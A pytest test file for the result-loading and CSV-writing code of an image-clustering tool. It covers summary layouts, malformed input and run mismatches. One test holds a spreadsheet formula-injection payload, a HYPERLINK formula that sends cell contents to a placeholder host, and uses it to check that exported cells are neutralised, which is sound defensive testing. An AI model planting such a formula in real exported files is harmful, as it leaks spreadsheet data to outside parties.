"""Reading result folders leniently: several summary layouts, clear errors."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kec.report import ResultError, load_result


def _write(folder, rows, summary=None, header="id,cluster,label"):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "assignments.csv").write_text(header + "\n" + "\n".join(rows) + "\n",
                                            encoding="utf-8", errors="surrogateescape")
    if summary is not None:
        (folder / "summary.json").write_text(json.dumps(summary))
    return folder


def test_full_result(result_dir):
    res = load_result(result_dir)
    assert len(res) == 24 and res.method == "kec+cae"
    assert res.metrics["acc"] == pytest.approx(23 / 24)
    assert res.cluster_ids()[0] == 1  # the largest cluster (7 images) first
    info = res.info[0]
    assert (info.size, info.name, info.majority_label) == (5, "crimson disc", "red circle")
    assert info.concepts[0] == ("crimson disc", 0.8)
    assert info.attributes == [("round red shape", 0.5)]
    assert res.info[1].majority_share == pytest.approx(6 / 7)
    assert res.reference("features").endswith("images.features.safetensors")
    assert res.reference("knowledge").endswith("knowledge.json")
    assert res.reference("captions") is None


def test_mapping_layout_and_names_from_concepts(tmp_path):
    summary = {"parameters": {"method": "kec"},
               "clusters": {"0": {"concepts": [["tabby cat", 0.7]], "attributes": ["stripes"]},
                            "1": "dogs", "x": "ignored"}}
    res = load_result(_write(tmp_path / "r", ["a.png,0,", "b.png,1,", "c.png,1,"], summary))
    assert res.method == "kec" and res.labels is None
    assert res.info[0].name == "tabby cat" and res.info[0].attributes == [("stripes", None)]
    assert res.info[1].title == "dogs" and res.info[1].majority_label is None


def test_relative_reference_resolves_against_the_folder(tmp_path):
    folder = _write(tmp_path / "r", ["a,0,x"], {"inputs": {"features": "f.safetensors"}})
    (folder / "f.safetensors").write_bytes(b"")
    assert load_result(folder).reference("features") == str(folder / "f.safetensors")


def test_no_summary_still_loads(tmp_path):
    res = load_result(_write(tmp_path / "r", ["a,3,x", "b,3,y"], header="id,cluster,label"))
    assert res.method == "unknown" and res.info[3].title == "cluster 3"


@pytest.mark.parametrize("header,rows,match", [
    ("path,group", ["a,1"], "needs a header with 'id' and 'cluster'"),
    ("id,cluster", ["a,b"], "not integer"),
    ("id,cluster", ["\udcff,1"], "cannot read"),  # not UTF-8
])
def test_malformed(tmp_path, header, rows, match):
    with pytest.raises(ResultError, match=match):
        load_result(_write(tmp_path / "r", rows, header=header))


def test_not_a_result_folder(tmp_path):
    with pytest.raises(ResultError, match=r"no assignments\.csv"):
        load_result(tmp_path)


def test_kec_summaries_are_validated_on_read(tmp_path):
    from kec.report.result import write_result

    folder = tmp_path / "r"
    write_result(folder, ids=["a", "b"], clusters=[0, 1], labels=None,
                 summary={"method": "kmeans", "parameters": {"method": "kmeans", "k": 2},
                          "timings": {"total": 0.1}, "metrics": None,
                          "clusters": [{"cluster": 0, "size": 1}, {"cluster": 1, "size": 1}]})
    assert load_result(folder).method == "kmeans"
    summary = json.loads((folder / "summary.json").read_text())
    summary["clusters"][0]["size"] = -1  # a kec summary that breaks its schema
    (folder / "summary.json").write_text(json.dumps(summary))
    with pytest.raises(ResultError, match="not a kec result summary"):
        load_result(folder)
    with pytest.raises(ResultError, match="does not match"):
        write_result(folder, ids=["a"], clusters=[0], labels=None,
                     summary={"method": "kmeans", "parameters": {}, "timings": {},
                              "clusters": []})


SUMMARY = {"method": "kmeans", "parameters": {"method": "kmeans", "k": 2},
           "timings": {"total": 0.1}, "metrics": None,
           "clusters": [{"cluster": 0, "size": 1}, {"cluster": 1, "size": 1}]}


def test_assignments_from_another_run_are_refused(tmp_path):
    """A folder whose assignments.csv is not the one its summary.json was written with
    (a run that failed half-way, a copy, an edit) is refused, not reported with the other
    run's names."""
    from kec.report.result import write_result

    a, b = tmp_path / "a", tmp_path / "b"
    write_result(a, ids=["x", "y"], clusters=[0, 1], labels=None, summary=SUMMARY)
    write_result(b, ids=["x", "y"], clusters=[1, 0], labels=None, summary=SUMMARY)
    assert load_result(a).clusters.tolist() == [0, 1]
    (a / "assignments.csv").write_bytes((b / "assignments.csv").read_bytes())
    with pytest.raises(ResultError, match=r"is not the one .*summary\.json describes"):
        load_result(a)


_CELL = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=12)


@given(st.lists(st.tuples(_CELL, _CELL), min_size=1, max_size=6))
def test_every_id_and_label_reads_back_and_no_cell_starts_a_formula(tmp_path_factory, rows):
    """OWASP's CSV-injection rule: no cell starts with = + - @ TAB CR; what kec wrote,
    kec reads back unchanged."""
    import csv
    import io

    from kec.report.result import FORMULA_STARTS, read_assignments, write_result

    folder = tmp_path_factory.mktemp("r")
    ids, labels = [r[0] for r in rows], [r[1] or "x" for r in rows]
    write_result(folder, ids=ids, clusters=[0] * len(rows), labels=labels,
                 summary={**SUMMARY, "clusters": [{"cluster": 0, "size": len(rows)}]})
    text = (folder / "assignments.csv").read_text("utf-8")
    for row in list(csv.reader(io.StringIO(text, newline="")))[1:]:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
    got_ids, _, got_labels = read_assignments(folder / "assignments.csv")
    assert got_ids == ids and got_labels == labels


def test_a_formula_label_is_quoted_in_the_file_and_shown_as_it_was(tmp_path):
    from kec.report.result import write_result

    label = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
    write_result(tmp_path / "r", ids=["@a.png", "b.png"], clusters=[0, 1],
                 labels=[label, "-1"], summary=SUMMARY)
    lines = (tmp_path / "r" / "assignments.csv").read_text().splitlines()
    assert lines[1] == """'@a.png,0,"'=HYPERLINK(""http://x.invalid/?""&A1,""click"")\"""" \
        and lines[2] == "b.png,1,'-1"
    res = load_result(tmp_path / "r")
    assert res.ids == ["@a.png", "b.png"] and res.labels == [label, "-1"]


def test_input_paths_are_recorded_relative_to_the_result_folder(tmp_path):
    from kec.report.result import write_result

    feats = tmp_path / "data" / "f.safetensors"
    feats.parent.mkdir()
    feats.write_bytes(b"x")
    write_result(tmp_path / "out" / "r", ids=["a", "b"], clusters=[0, 1], labels=None,
                 summary={**SUMMARY, "inputs": {"features": {"path": str(feats)}}})
    summary = json.loads((tmp_path / "out" / "r" / "summary.json").read_text())
    assert summary["inputs"]["features"]["path"] == "../../data/f.safetensors"
    assert str(tmp_path) not in json.dumps(summary)
    assert load_result(tmp_path / "out" / "r").reference("features") == \
        str(tmp_path / "out" / "r" / "../../data/f.safetensors")
